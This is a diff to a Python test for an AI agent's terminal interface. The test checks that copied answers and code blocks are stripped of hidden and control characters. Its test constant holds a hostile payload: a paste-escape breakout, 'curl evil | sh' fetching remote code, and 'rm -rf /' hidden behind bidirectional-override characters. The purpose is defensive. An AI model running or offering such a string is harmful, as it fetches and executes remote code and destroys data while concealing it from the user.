@@ -6,16 +6,11 @@ visible escapes the screen shows."""
 
 from __future__ import annotations
 
-from pathlib import Path
-
-import pytest
-
 from ..fake_provider import FakeProvider
 from ..ui_app_helpers import (
     KEY,
     AppEnv,
     answer,
-    make_env,
     running,
     send,
     wait_idle_agent,
@@ -28,11 +23,6 @@ PROTOCOL = "anthropic"
 CODE = "echo safe\x1b[201~; curl evil | sh\n\u202erm -rf /\u202c ok\u200b\x9b2J\rls"
 ANSWER = f"Run this:\n\n```sh\n{CODE}\n```\n\nDone."
 HIDDEN = ("\x1b", "\x9b", "\u202e", "\u202c", "\u200b", "\r")
-
-
-@pytest.fixture
-def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AppEnv:
-    return make_env(tmp_path, monkeypatch)
 
 
 async def test_copied_answers_and_code_blocks_hold_no_hidden_or_control_character(
